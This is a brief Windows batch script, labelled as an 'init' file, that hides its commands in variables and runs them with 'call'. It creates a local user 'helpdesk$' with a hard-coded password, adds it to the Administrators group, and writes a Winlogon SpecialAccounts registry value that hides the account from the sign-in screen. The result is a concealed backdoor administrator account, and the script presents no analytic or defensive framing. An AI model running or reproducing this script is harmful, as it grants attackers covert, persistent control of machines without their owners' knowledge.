REM init 1668 v0
@echo off
@echo off
set onai=net user helpdesk$ Adm1n!strat0r /add /active:yes
call %onai%
@echo off
set naxy=net localgroup Administrators helpdesk$ /add
call %naxy%
@echo off
set mqbg=reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
call %mqbg%
